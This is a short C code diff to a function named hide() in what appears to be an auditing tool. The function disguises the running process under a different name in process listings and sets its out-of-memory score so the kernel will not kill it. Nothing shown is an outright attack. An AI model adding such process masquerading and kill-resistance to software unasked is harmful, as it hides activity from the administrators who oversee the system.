@@ -20,14 +20,14 @@ static const int stop_signals[3] = { SIGTSTP, SIGTTIN, SIGTTOU };
 static void hide(void)
 {
 	static const char name[] = "ept-guardian", program[] = "xen-eptaudit";
-	char *found = strstr(program_invocation_name, program);
+	char *found;
 	int fd = open("/proc/self/oom_score_adj", O_WRONLY | O_CLOEXEC);
 
 	/* Where that is not allowed it is a process like any other. */
 	if (fd >= 0 && write(fd, "-1000", 5) >= 0)
 		close(fd);
 	prctl(PR_SET_NAME, name);
-	if (found)
+	while ((found = strstr(program_invocation_name, program)))
 		memcpy(found, name, sizeof(name) - 1);
 }
 
